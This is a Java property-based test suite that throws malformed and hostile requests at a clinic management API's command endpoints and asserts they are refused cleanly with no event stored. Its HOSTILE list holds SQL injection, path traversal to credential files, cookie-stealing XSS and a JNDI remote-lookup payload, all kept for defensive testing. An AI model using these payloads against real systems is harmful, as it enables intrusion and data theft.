package org.triggerpoint.clinic.command.http;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.web.context.WebServerApplicationContext;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.triggerpoint.clinic.command.CommandSideApplication;
import org.triggerpoint.clinic.command.http.ClinicHttp.Answer;
import org.triggerpoint.clinic.command.http.ClinicHttp.User;
import org.triggerpoint.clinic.localpostgres.ThrowAwayDatabase;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input thrown at every command endpoint of a running command side: malformed JSON, wrong types, missing and
 * extra fields, out-of-range numbers, huge strings and bodies, unknown enum names, unknown ids, path traversal and
 * SQL-looking text. Never a 5xx; always {@code application/problem+json} with a 4xx the contract names; a 400 about
 * a field names that field; and no event is stored. Hostile strings where free text is allowed are stored as given.
 *
 * <p>jqwik does not run inside Spring's test extension, so the application is started here once, on a throw-away
 * database of its own. Properties and their tries run one after another, so counting the events before and after a
 * request shows what that request stored.
 */
class HostileInputProperties {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int MAX_BODY_BYTES = 1_048_576;

    /** Strings an attacker or a careless script might send. */
    static final List<String> HOSTILE = List.of(
            "'; DROP TABLE events.domain_event_entry; --",
            "1' OR '1'='1",
            "\" OR \"\"=\"",
            "1; SELECT pg_sleep(10)",
            "UNION SELECT username, password FROM identity.user_account --",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\system32\\config\\sam",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/api/sessions/../../actuator/env",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(document.cookie)>",
            "${jndi:ldap://example.org/a}",
            "#{7*7} {{7*7}} <%= 7*7 %>",
            "\\u0000 \\n \\r\\n",
            "Robert'); DELETE FROM command.client_registry;--",
            "Zoë Ångström – naïve café, 東京, Łódź, عربى, עברית",
            "👩‍⚕️💆‍♂️🩺 \uD83D\uDE00",
            "\u202Eevil\u202C right-to-left override",
            "line one\nline two\ttabbed\r\ncarriage",
            "quotes ' \" ` and backslash \\ and slash /",
            "null", "undefined", "NaN", "true", "[]", "{}", "");

    private static ConfigurableApplicationContext application;
    private static ClinicHttp api;
    private static StoredEvents events;
    private static User therapist;
    private static Targets targets;

    /** The records the attacks aim at. */
    record Targets(String therapistId, String clientId, String erasableClientId, String sessionId,
                   String triggerPointId, String completedSessionId, String username) {
    }

    @BeforeContainer
    static void startTheCommandSide() {
        application = new SpringApplicationBuilder(CommandSideApplication.class)
                .initializers(new ThrowAwayDatabase())
                // as arguments: they must win over application.yml, which default properties would not
                .run("--server.port=0", "--clinic.admin-password=" + ClinicHttp.ADMIN_PASSWORD,
                        "--clinic.retention.schedule=-");
        int port = ((WebServerApplicationContext) application).getWebServer().getPort();
        api = new ClinicHttp(port);
        events = new StoredEvents(application.getBean(JdbcClient.class));
        therapist = api.newUser("THERAPIST");
        String therapistId = api.newTherapist();
        String clientId = api.newClient(therapist);
        String sessionId = api.newAssessedSession(therapist, clientId, therapistId);
        String triggerPointId = api.post(therapist, "/api/sessions/" + sessionId + "/trigger-points",
                Map.of("muscle", "UPPER_TRAPEZIUS", "side", "LEFT", "kind", "ACTIVE")).id("triggerPointId");
        String completed = api.newAssessedSession(therapist, clientId, therapistId);
        assertThat(api.post(therapist, "/api/sessions/" + completed + "/complete",
                Map.of("postSessionPainScore", 3)).status()).isEqualTo(204);
        String username = api.newUser("ANALYST").name();
        targets = new Targets(therapistId, clientId, api.newClient(therapist), sessionId, triggerPointId, completed,
                username);
    }

    @AfterContainer
    static void stopTheCommandSide() {
        if (application != null) {
            application.close();
        }
    }

    // ---------------------------------------------------------------------------------------------------------
    // The command endpoints and their fields

    enum Kind { TEXT, INT, DECIMAL, BOOL, ENUM, UUID, DATE, INSTANT, TEXT_LIST, ENUM_SET }

    /** A field of a request body; {@code sent} fields are in the valid body (all required ones, and some others). */
    record Field(String name, Kind kind, boolean required, long min, long max, JsonNode valid, boolean sent) {

        Field(String name, Kind kind, boolean required, long min, long max, JsonNode valid) {
            this(name, kind, required, min, max, valid, required);
        }
    }

    /** Who may call it, where, the fields of its body, and what it answers to a well-formed body naming no record. */
    record Endpoint(String name, boolean admin, String method, Function<Targets, String> path,
                    Function<Targets, String> pathToUnknown, Set<Integer> unknownAnswers, List<Field> fields) {

        boolean hasBody() {
            return !fields.isEmpty();
        }

        ObjectNode validBody() {
            ObjectNode body = NODES.objectNode();
            fields.stream().filter(Field::sent).forEach(field -> body.set(field.name(), field.valid()));
            return body;
        }

        User user() {
            return admin ? api.admin() : therapist;
        }
    }

    private static Field text(String name, boolean required, int max) {
        return new Field(name, Kind.TEXT, required, 0, max, NODES.textNode("Valid " + name));
    }

    private static Field integer(String name, boolean required, int min, int max) {
        return new Field(name, Kind.INT, required, min, max, NODES.numberNode(min));
    }

    private static Field decimal(String name, int min, int max) {
        return new Field(name, Kind.DECIMAL, false, min, max, NODES.numberNode(min));
    }

    private static Field bool(String name, boolean valid) {
        return new Field(name, Kind.BOOL, true, 0, 0, NODES.booleanNode(valid));
    }

    private static Field enumeration(String name, boolean required, String valid) {
        return new Field(name, Kind.ENUM, required, 0, 0, NODES.textNode(valid));
    }

    private static Field enumSet(String name, String valid) {
        return new Field(name, Kind.ENUM_SET, true, 0, 0, NODES.arrayNode().add(valid));
    }

    private static Field id(String name, Function<Targets, String> valid) {
        return new Field(name, Kind.UUID, true, 0, 0, NODES.textNode(valid.apply(targets)));
    }

    private static final String UNKNOWN = "00000000-0000-0000-0000-00000000dead";

    static List<Endpoint> endpoints() {
        List<Endpoint> all = new ArrayList<>();
        all.add(new Endpoint("register therapist", true, "POST", t -> "/api/therapists", null, Set.of(),
                List.of(text("displayName", true, 200), text("licenseNumber", true, 100))));
        all.add(new Endpoint("register client", false, "POST", t -> "/api/clients", null, Set.of(), List.of(
                text("givenName", true, 100), text("familyName", true, 100),
                new Field("dateOfBirth", Kind.DATE, true, 0, 0, NODES.textNode("1984-03-12")),
                text("email", false, 254), text("phone", false, 40),
                bool("consentToTreatment", true), bool("consentToDataProcessing", true))));
        all.add(new Endpoint("record intake", false, "POST", t -> "/api/clients/" + t.clientId() + "/intake",
                t -> "/api/clients/" + UUID.randomUUID() + "/intake", Set.of(404), List.of(
                enumSet("conditions", "MYOFASCIAL_PAIN_SYNDROME"), text("history", false, 10_000),
                text("goals", false, 10_000))));
        all.add(new Endpoint("change consent", false, "POST", t -> "/api/clients/" + t.clientId() + "/consent",
                t -> "/api/clients/" + UUID.randomUUID() + "/consent", Set.of(404), List.of(
                bool("consentToTreatment", true), bool("consentToDataProcessing", true))));
        all.add(new Endpoint("erase client", true, "POST", t -> "/api/clients/" + t.erasableClientId() + "/erasure",
                t -> "/api/clients/" + UUID.randomUUID() + "/erasure", Set.of(404), List.of(
                text("reason", true, 2_000), text("legalBasis", false, 2_000))));
        all.add(new Endpoint("start session", false, "POST", t -> "/api/sessions", null, Set.of(), List.of(
                id("clientId", Targets::clientId), id("therapistId", Targets::therapistId),
                new Field("startedAt", Kind.INSTANT, false, 0, 0, NODES.textNode("2026-01-01T10:00:00Z")))));
        all.add(new Endpoint("record assessment", false, "POST",
                t -> "/api/sessions/" + t.sessionId() + "/assessment",
                t -> "/api/sessions/" + UUID.randomUUID() + "/assessment", Set.of(404), List.of(
                integer("painScore", true, 0, 10), text("painPattern", true, 2_000), text("posture", true, 2_000),
                new Field("movementRestrictions", Kind.TEXT_LIST, true, 0, 2_000,
                        NODES.arrayNode().add("Rotation limited")),
                new Field("regions", Kind.ENUM_SET, false, 0, 0, NODES.arrayNode().add("NECK")))));
        all.add(new Endpoint("identify trigger point", false, "POST",
                t -> "/api/sessions/" + t.sessionId() + "/trigger-points",
                t -> "/api/sessions/" + UUID.randomUUID() + "/trigger-points", Set.of(404), List.of(
                enumeration("muscle", true, "UPPER_TRAPEZIUS"), enumeration("side", true, "LEFT"),
                enumeration("kind", true, "ACTIVE"), text("referralPattern", false, 2_000),
                enumeration("localTwitchResponse", false, "VISIBLE"), decimal("pressurePainThreshold", 0, 20))));
        all.add(new Endpoint("release trigger point", false, "POST",
                t -> "/api/sessions/" + t.sessionId() + "/trigger-points/" + t.triggerPointId() + "/release",
                t -> "/api/sessions/" + t.sessionId() + "/trigger-points/" + UUID.randomUUID() + "/release",
                Set.of(409), List.of(
                enumeration("pressure", true, "STATIC"), integer("holdSeconds", true, 1, 600),
                enumeration("tissueResponse", true, "RELEASED"), bool("referredSensationReproduced", true),
                decimal("pressurePainThresholdAfter", 0, 20))));
        all.add(new Endpoint("apply technique", false, "POST", t -> "/api/sessions/" + t.sessionId() + "/techniques",
                t -> "/api/sessions/" + UUID.randomUUID() + "/techniques", Set.of(404), List.of(
                enumeration("technique", true, "GENTLE_MOVEMENT"), text("notes", false, 10_000))));
        all.add(new Endpoint("complete session", false, "POST", t -> "/api/sessions/" + t.sessionId() + "/complete",
                t -> "/api/sessions/" + UUID.randomUUID() + "/complete", Set.of(404), List.of(
                integer("postSessionPainScore", true, 0, 10), text("notes", false, 10_000))));
        all.add(new Endpoint("report soreness", false, "POST",
                t -> "/api/sessions/" + t.completedSessionId() + "/soreness",
                t -> "/api/sessions/" + UUID.randomUUID() + "/soreness", Set.of(404), List.of(
                integer("hoursAfterSession", true, 0, 168), integer("severity", true, 0, 10),
                bool("resolved", true), text("notes", false, 10_000))));
        all.add(new Endpoint("amend session", false, "POST",
                t -> "/api/sessions/" + t.completedSessionId() + "/amendments",
                t -> "/api/sessions/" + UUID.randomUUID() + "/amendments", Set.of(404), List.of(
                text("reason", true, 10_000),
                // not required (an amendment corrects any one field), but sent so that the valid body is valid
                new Field("postSessionPainScore", Kind.INT, false, 0, 10, NODES.numberNode(4), true),
                integer("painScore", false, 0, 10), text("painPattern", false, 2_000),
                text("notes", false, 10_000))));
        all.add(new Endpoint("register user", true, "POST", t -> "/api/users", null, Set.of(), List.of(
                text("username", true, 64), new Field("password", Kind.TEXT, true, 12, 200,
                        NODES.textNode("a-valid-password-1")), enumSet("roles", "ANALYST"))));
        all.add(new Endpoint("change roles", true, "PUT", t -> "/api/users/" + t.username() + "/roles",
                t -> "/api/users/nobody-" + UUID.randomUUID().toString().substring(0, 8) + "/roles", Set.of(404),
                List.of(enumSet("roles", "AUDITOR"))));
        all.add(new Endpoint("deactivate user", true, "POST", t -> "/api/users/" + t.username() + "/deactivate",
                t -> "/api/users/nobody-" + UUID.randomUUID().toString().substring(0, 8) + "/deactivate",
                Set.of(404), List.of()));
        all.add(new Endpoint("deactivate therapist", true, "POST",
                t -> "/api/therapists/" + t.therapistId() + "/deactivate",
                t -> "/api/therapists/" + UUID.randomUUID() + "/deactivate", Set.of(404), List.of()));
        return all;
    }

    // ---------------------------------------------------------------------------------------------------------
    // Attacks

    /** One hostile request, and what a correct answer to it looks like. */
    record Attack(String what, Endpoint endpoint, String path, String contentType, String body,
                  Set<Integer> statuses, String field) {

        @Override
        public String toString() {
            String shown = body == null ? "" : body.length() > 300 ? body.substring(0, 300) + "…(" + body.length()
                    + " chars)" : body;
            return what + " → " + endpoint.method() + " " + path + " " + shown;
        }
    }

    private static Attack withBody(String what, Endpoint endpoint, JsonNode body, String field) {
        return new Attack(what, endpoint, endpoint.path().apply(targets), "application/json", write(body),
                Set.of(400), field);
    }

    private static String write(JsonNode body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Arbitrary<Endpoint> withBodies() {
        return Arbitraries.of(endpoints().stream().filter(Endpoint::hasBody).toList());
    }

    private static Arbitrary<Endpoint> withFieldsOf(Kind... kinds) {
        return Arbitraries.of(endpoints().stream().filter(endpoint -> endpoint.fields().stream()
                .anyMatch(field -> Arrays.asList(kinds).contains(field.kind()))).toList());
    }

    private static Arbitrary<Field> fieldOf(Endpoint endpoint, Kind... kinds) {
        List<Field> fields = endpoint.fields().stream()
                .filter(field -> kinds.length == 0 || Arrays.asList(kinds).contains(field.kind())).toList();
        if (fields.isEmpty()) {
            throw new IllegalArgumentException(endpoint.name() + " has no field of the kinds " + Arrays.toString(kinds));
        }
        return Arbitraries.of(fields);
    }

    private static Arbitrary<String> hostile() {
        return Arbitraries.oneOf(Arbitraries.of(HOSTILE),
                Combinators.combine(Arbitraries.of(HOSTILE), Arbitraries.of(HOSTILE)).as((a, b) -> a + " " + b));
    }

    @Provide
    Arbitrary<Attack> malformedJson() {
        return withBodies().flatMap(endpoint -> {
            String valid = write(endpoint.validBody());
            Arbitrary<String> broken = Arbitraries.oneOf(
                    Arbitraries.integers().between(0, valid.length() - 1).map(cut -> valid.substring(0, cut)),
                    Arbitraries.integers().between(1, valid.length() - 1)
                            .flatMap(at -> Arbitraries.of("{", "}", "\"", ",", ":", "[", "]]", "\\", "'", "\u0000",
                                    "NaN", "/*", "garbage").map(junk -> valid.substring(0, at) + junk
                                    + valid.substring(at))),
                    Arbitraries.of("{", "[1,2", "{\"a\":}", "{'single':'quotes'}", "{\"a\" 1}", "nul",
                            "{\"a\":1}}", "\uFEFF{", "{\"a\":\"unterminated}", "<xml/>", "--", "{\"a\":01}"));
            return broken.map(body -> new Attack("malformed JSON", endpoint, endpoint.path().apply(targets),
                    "application/json", body, Set.of(400), null));
        }).filter(attack -> !isWellFormedJson(attack.body()));
    }

    private static final ObjectMapper STRICT = new ObjectMapper()
            .enable(com.fasterxml.jackson.databind.DeserializationFeature.FAIL_ON_TRAILING_TOKENS);

    /**
     * An insertion inside a string value can by chance leave well-formed JSON (then it is another kind of attack,
     * covered by the other properties); trailing tokens after the object are malformed, and so kept.
     */
    private static boolean isWellFormedJson(String body) {
        try {
            STRICT.readTree(body);
            return !body.isBlank();
        } catch (Exception malformed) {
            return false;
        }
    }

    @Provide
    Arbitrary<Attack> wrongTypes() {
        return withBodies().flatMap(endpoint -> fieldOf(endpoint).flatMap(field ->
                wrongTypeFor(field.kind()).map(value -> {
                    ObjectNode body = endpoint.validBody();
                    body.set(field.name(), value);
                    return withBody("wrong type for " + field.name(), endpoint, body, field.name());
                })));
    }

    private static Arbitrary<JsonNode> wrongTypeFor(Kind kind) {
        JsonNode object = NODES.objectNode().put("nested", "value");
        JsonNode array = NODES.arrayNode().add(1).add("two");
        return switch (kind) {
            case TEXT -> Arbitraries.of(object, array);
            case INT -> Arbitraries.of(object, array, NODES.textNode("three"), NODES.numberNode(3.5),
                    NODES.textNode("3.5"));
            case DECIMAL -> Arbitraries.of(object, array, NODES.textNode("heavy"));
            case BOOL -> Arbitraries.of(object, array, NODES.textNode("maybe"));
            case ENUM -> Arbitraries.of(object, array, NODES.numberNode(1), NODES.textNode("1"));
            case UUID -> Arbitraries.of(object, array, NODES.booleanNode(true), NODES.textNode("1234"));
            case DATE -> Arbitraries.of(object, NODES.booleanNode(true), NODES.textNode("12/03/1984"));
            case INSTANT -> Arbitraries.of(object, NODES.booleanNode(true), NODES.textNode("yesterday"));
            case TEXT_LIST -> Arbitraries.of(object, NODES.numberNode(7), NODES.arrayNode().add(object));
            case ENUM_SET -> Arbitraries.of(object, NODES.numberNode(7), NODES.arrayNode().add(object),
                    NODES.arrayNode().add(2));
        };
    }

    @Provide
    Arbitrary<Attack> missingFields() {
        return withBodies().flatMap(endpoint -> fieldOf(endpoint).filter(Field::required)
                .flatMap(field -> Arbitraries.of(true, false).map(explicitNull -> {
                    ObjectNode body = endpoint.validBody();
                    if (explicitNull) {
                        body.putNull(field.name());
                    } else {
                        body.remove(field.name());
                    }
                    return withBody((explicitNull ? "null " : "missing ") + field.name(), endpoint, body,
                            field.name());
                })));
    }

    @Provide
    Arbitrary<Attack> extraFields() {
        Arbitrary<String> names = Arbitraries.oneOf(
                Arbitraries.of("signedBy", "id", "sessionId", "role", "admin", "__proto__", "constructor", "$where",
                        "password", "clientId ", "PainScore", "@type"),
                Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(30).map(name -> "extra" + name),
                hostile().filter(name -> !name.isEmpty()));
        return withBodies().flatMap(endpoint -> Combinators.combine(names, hostile()).as((name, value) -> {
            ObjectNode body = endpoint.validBody();
            if (body.has(name)) {
                name = name + "_extra";
            }
            body.put(name, value);
            return withBody("extra field " + name, endpoint, body, name);
        })).filter(attack -> attack.endpoint().fields().stream().noneMatch(f -> f.name().equals(attack.field())));
    }

    @Provide
    Arbitrary<Attack> outOfRangeNumbers() {
        return withFieldsOf(Kind.INT, Kind.DECIMAL)
                .flatMap(endpoint -> fieldOf(endpoint, Kind.INT, Kind.DECIMAL).flatMap(field ->
                        outOfRange(field).map(value -> {
                            ObjectNode body = endpoint.validBody();
                            body.set(field.name(), value);
                            return withBody("out of range " + field.name(), endpoint, body, field.name());
                        })));
    }

    private static Arbitrary<JsonNode> outOfRange(Field field) {
        Arbitrary<JsonNode> beyond = Arbitraries.oneOf(
                Arbitraries.longs().between(Long.MIN_VALUE / 2, field.min() - 1).map(NODES::numberNode),
                Arbitraries.longs().between(field.max() + 1, Long.MAX_VALUE / 2).map(NODES::numberNode),
                Arbitraries.of("1e30", "-1e30", "99999999999999999999999999999", "1e400", "-1e400").map(raw ->
                        NODES.numberNode(new java.math.BigDecimal(raw))));
        if (field.kind() == Kind.DECIMAL) {
            return Arbitraries.oneOf(beyond, Arbitraries.of("-0.001", "20.0001", "20.5", "-1E-7")
                    .map(raw -> NODES.numberNode(new java.math.BigDecimal(raw))));
        }
        return beyond;
    }

    @Provide
    Arbitrary<Attack> hugeStrings() {
        return withBodies().flatMap(endpoint -> fieldOf(endpoint).flatMap(field -> {
            int limit = field.kind() == Kind.TEXT || field.kind() == Kind.TEXT_LIST ? (int) field.max() : 100;
            return Arbitraries.integers().between(limit + 1, limit + 200_000).map(length -> {
                String huge = "A".repeat(length);
                ObjectNode body = endpoint.validBody();
                if (field.kind() == Kind.TEXT_LIST || field.kind() == Kind.ENUM_SET) {
                    body.set(field.name(), NODES.arrayNode().add(huge));
                } else {
                    body.put(field.name(), huge);
                }
                return withBody("huge " + field.name() + " (" + length + " chars)", endpoint, body, field.name());
            });
        }));
    }

    @Provide
    Arbitrary<Attack> hugeBodies() {
        return withBodies().flatMap(endpoint -> Arbitraries.integers().between(MAX_BODY_BYTES + 1,
                MAX_BODY_BYTES * 3).map(size -> {
            ObjectNode body = endpoint.validBody();
            String text = body.toString();
            String padded = text.substring(0, text.length() - 1) + ",\"padding\":\""
                    + "x".repeat(size - text.length()) + "\"}";
            return new Attack("body of " + padded.length() + " bytes", endpoint, endpoint.path().apply(targets),
                    "application/json", padded, Set.of(413), null);
        }));
    }

    @Provide
    Arbitrary<Attack> unknownEnumNames() {
        Arbitrary<String> names = Arbitraries.oneOf(
                Arbitraries.strings().withCharRange('A', 'Z').withChars('_').ofMinLength(1).ofMaxLength(40)
                        .map(name -> "NOT_" + name),
                Arbitraries.of("left", "Left", " LEFT", "LEFT ", "upper_trapezius", "ADMIN; DROP TABLE", "RELEASED\u0000"),
                hostile());
        return withFieldsOf(Kind.ENUM, Kind.ENUM_SET)
                .flatMap(endpoint -> fieldOf(endpoint, Kind.ENUM, Kind.ENUM_SET).flatMap(field -> names.map(name -> {
                    ObjectNode body = endpoint.validBody();
                    if (field.kind() == Kind.ENUM_SET) {
                        body.set(field.name(), NODES.arrayNode().add(name));
                    } else {
                        body.put(field.name(), name);
                    }
                    return withBody("unknown " + field.name() + " '" + name + "'", endpoint, body, field.name());
                })));
    }

    @Provide
    Arbitrary<Attack> hostileStringsInTypedFields() {
        Kind[] typed = {Kind.INT, Kind.DECIMAL, Kind.BOOL, Kind.UUID, Kind.DATE, Kind.INSTANT};
        return withFieldsOf(typed).flatMap(endpoint -> fieldOf(endpoint, typed).flatMap(field -> hostile()
                // A blank string, and the word null (Jackson's "textual null"), read as "no value", which for an
                // optional field is a valid request that stores nothing of the text; and the words true and false
                // are a boolean's valid values, however they are sent.
                .filter(text -> field.required() || !(text.isBlank() || text.strip().equals("null")))
                .filter(text -> field.kind() != Kind.BOOL || !text.strip().matches("(?i)true|false"))
                .map(text -> {
                    ObjectNode body = endpoint.validBody();
                    body.put(field.name(), text);
                    return withBody("hostile " + field.name() + " '" + text + "'", endpoint, body, field.name());
                })));
    }

    @Provide
    Arbitrary<Attack> unknownIds() {
        return Arbitraries.of(endpoints().stream().filter(endpoint -> endpoint.pathToUnknown() != null
                || endpoint.fields().stream().anyMatch(field -> field.kind() == Kind.UUID)).toList()).flatMap(endpoint -> {
            List<Arbitrary<Attack>> attacks = new ArrayList<>();
            if (endpoint.pathToUnknown() != null) {
                attacks.add(Arbitraries.just(endpoint).map(e -> new Attack("unknown id in path", e,
                        e.pathToUnknown().apply(targets), e.hasBody() ? "application/json" : null,
                        e.hasBody() ? write(e.validBody()) : null, e.unknownAnswers(), null)));
            }
            endpoint.fields().stream().filter(field -> field.kind() == Kind.UUID).forEach(field ->
                    attacks.add(Arbitraries.create(UUID::randomUUID).map(unknown -> {
                        ObjectNode body = endpoint.validBody();
                        body.put(field.name(), unknown.toString());
                        return new Attack("unknown " + field.name(), endpoint, endpoint.path().apply(targets),
                                "application/json", write(body), Set.of(404), null);
                    })));
            return Arbitraries.oneOf(attacks);
        });
    }

    @Provide
    Arbitrary<Attack> hostilePathSegments() {
        return Arbitraries.of(endpoints()).filter(endpoint -> endpoint.pathToUnknown() != null)
                .flatMap(endpoint -> hostile().map(text -> {
                    String valid = endpoint.path().apply(targets);
                    String id = idIn(endpoint);
                    String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
                    return new Attack("hostile path segment '" + text + "'", endpoint, valid.replace(id, encoded),
                            endpoint.hasBody() ? "application/json" : null,
                            endpoint.hasBody() ? write(endpoint.validBody()) : null, Set.of(400, 404),
                            null);
                }));
    }

    /** The id in the endpoint's path that a hostile segment replaces: the last one. */
    private static String idIn(Endpoint endpoint) {
        String path = endpoint.path().apply(targets);
        for (String candidate : List.of(targets.triggerPointId(), targets.sessionId(), targets.completedSessionId(),
                targets.erasableClientId(), targets.clientId(), targets.therapistId(), targets.username())) {
            if (path.contains(candidate)) {
                return candidate;
            }
        }
        throw new IllegalStateException("no id in " + path);
    }

    /** Text that no view could hold: a NUL character, or half of a surrogate pair (sent as JSON escapes). */
    @Provide
    Arbitrary<Attack> unstorableText() {
        Arbitrary<String> escapes = Arbitraries.of("\\u0000", "before\\u0000after", "\\ud83d", "half \\ud83d pair",
                "\\udc00", "\\udc00\\ud83d", "x\\u0000");
        return withFieldsOf(Kind.TEXT, Kind.TEXT_LIST).flatMap(endpoint -> fieldOf(endpoint, Kind.TEXT, Kind.TEXT_LIST)
                .flatMap(field -> escapes.map(escaped -> {
                    ObjectNode body = endpoint.validBody();
                    String marker = "UNSTORABLE-TEXT-MARKER";
                    if (field.kind() == Kind.TEXT_LIST) {
                        body.set(field.name(), NODES.arrayNode().add(marker));
                    } else {
                        body.put(field.name(), marker);
                    }
                    return new Attack("unstorable " + field.name() + " '" + escaped + "'", endpoint,
                            endpoint.path().apply(targets), "application/json",
                            write(body).replace(marker, escaped), Set.of(400), field.name());
                })));
    }

    @Provide
    Arbitrary<Attack> wrongMediaTypes() {
        return withBodies().flatMap(endpoint -> Arbitraries.of("text/plain", "application/xml",
                "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/html").map(type ->
                new Attack("content type " + type, endpoint, endpoint.path().apply(targets), type,
                        write(endpoint.validBody()), Set.of(415), null)));
    }

    // ---------------------------------------------------------------------------------------------------------
    // Properties

    @Property(tries = 60)
    void malformedJsonIsRefused(@ForAll("malformedJson") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 80)
    void wrongTypesAreRefusedNamingTheField(@ForAll("wrongTypes") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 60)
    void missingFieldsAreRefusedNamingTheField(@ForAll("missingFields") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 60)
    void extraFieldsAreRefusedNamingTheField(@ForAll("extraFields") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 60)
    void outOfRangeNumbersAreRefusedNamingTheField(@ForAll("outOfRangeNumbers") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 40, shrinking = ShrinkingMode.BOUNDED)
    void hugeStringsAreRefusedNamingTheField(@ForAll("hugeStrings") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 15, shrinking = ShrinkingMode.BOUNDED)
    void hugeBodiesAreRefusedAsTooLarge(@ForAll("hugeBodies") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 60)
    void unknownEnumNamesAreRefusedNamingTheField(@ForAll("unknownEnumNames") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 60)
    void hostileStringsInTypedFieldsAreRefusedNamingTheField(@ForAll("hostileStringsInTypedFields") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 50)
    void unknownIdsAreNotFound(@ForAll("unknownIds") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 60)
    void hostilePathSegmentsAreRefused(@ForAll("hostilePathSegments") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 50)
    void unstorableTextIsRefusedNamingTheField(@ForAll("unstorableText") Attack attack) {
        assertRefused(attack);
    }

    @Property(tries = 30)
    void wrongMediaTypesAreRefused(@ForAll("wrongMediaTypes") Attack attack) {
        assertRefused(attack);
    }

    /**
     * The free-text fields of a session take hostile strings as the words they are: accepted, and stored as one
     * more event of the session. (That they come back intact from the views is HostileTextRoundTripIT's part.)
     */
    @Property(tries = 50)
    void hostileFreeTextIsAcceptedAndStored(@ForAll("hostileFreeText") FreeTextCommand command) {
        long before = events.count();
        List<String> typesBefore = events.typesOf(command.sessionId());

        Answer answer = api.post(therapist, command.path(), command.body());

        assertThat(answer.status()).as("%s → %s", command, answer.body()).isIn(201, 204);
        assertThat(events.count()).isEqualTo(before + 1);
        List<String> typesAfter = events.typesOf(command.sessionId());
        assertThat(typesAfter).hasSize(typesBefore.size() + 1);
        assertThat(typesAfter.get(typesAfter.size() - 1)).isEqualTo(command.event());
    }

    record FreeTextCommand(String sessionId, String path, Map<String, Object> body, String event) {
    }

    @Provide
    Arbitrary<FreeTextCommand> hostileFreeText() {
        // Required free text (an amendment's reason) must not be blank as @NotBlank sees it: trimmed.
        Arbitrary<String> text = Arbitraries.oneOf(hostile().filter(s -> !s.trim().isEmpty()),
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(200)
                        .filter(s -> !s.trim().isEmpty() && isWellFormedUtf16(s) && s.indexOf('\u0000') < 0));
        return text.flatMap(words -> Arbitraries.of(
                new FreeTextCommand(targets.sessionId(), "/api/sessions/" + targets.sessionId() + "/techniques",
                        Map.of("technique", "MYOFASCIAL_STRETCHING", "notes", words), "TechniqueApplied"),
                new FreeTextCommand(targets.sessionId(), "/api/sessions/" + targets.sessionId() + "/trigger-points",
                        Map.of("muscle", "LEVATOR_SCAPULAE", "side", "BILATERAL", "kind", "LATENT",
                                "referralPattern", words), "TriggerPointIdentified"),
                new FreeTextCommand(targets.completedSessionId(),
                        "/api/sessions/" + targets.completedSessionId() + "/soreness",
                        Map.of("hoursAfterSession", 24, "severity", 2, "resolved", true, "notes", words),
                        "SorenessReported"),
                new FreeTextCommand(targets.completedSessionId(),
                        "/api/sessions/" + targets.completedSessionId() + "/amendments",
                        Map.of("reason", words, "painPattern", words), "SessionAmended")));
    }

    static boolean isWellFormedUtf16(String text) {
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isHighSurrogate(c)) {
                if (i + 1 >= text.length() || !Character.isLowSurrogate(text.charAt(i + 1))) {
                    return false;
                }
                i++;
            } else if (Character.isLowSurrogate(c)) {
                return false;
            }
        }
        return true;
    }

    // ---------------------------------------------------------------------------------------------------------

    private static void assertRefused(Attack attack) {
        long before = events.count();

        Answer answer = api.raw(attack.endpoint().user(), attack.endpoint().method(), attack.path(),
                attack.body() == null ? "" : attack.body(), attack.contentType());

        assertThat(answer.status()).as("%s answered %s", attack, answer.body()).isLessThan(500);
        assertThat(answer.status()).as("%s answered %s", attack, answer.body()).isIn(attack.statuses());
        assertThat(answer.header("Content-Type")).as("%s answered %s", attack, answer.body())
                .startsWith("application/problem+json");
        JsonNode problem = answer.json();
        assertThat(problem.path("status").asInt()).as(answer.body()).isEqualTo(answer.status());
        assertThat(problem.path("title").asText()).as(answer.body()).isNotBlank();
        assertThat(problem.path("detail").asText()).as(answer.body()).isNotBlank();
        if (attack.field() != null && answer.status() == 400) {
            List<String> named = new ArrayList<>();
            problem.path("errors").forEach(error -> named.add(error.path("field").asText()));
            assertThat(named).as("%s answered %s", attack, answer.body())
                    .anyMatch(field -> field.equals(attack.field()) || field.startsWith(attack.field() + "[")
                            || field.startsWith(attack.field() + "."));
        }
        assertThat(events.count()).as("events stored after %s", attack).isEqualTo(before);
    }
}
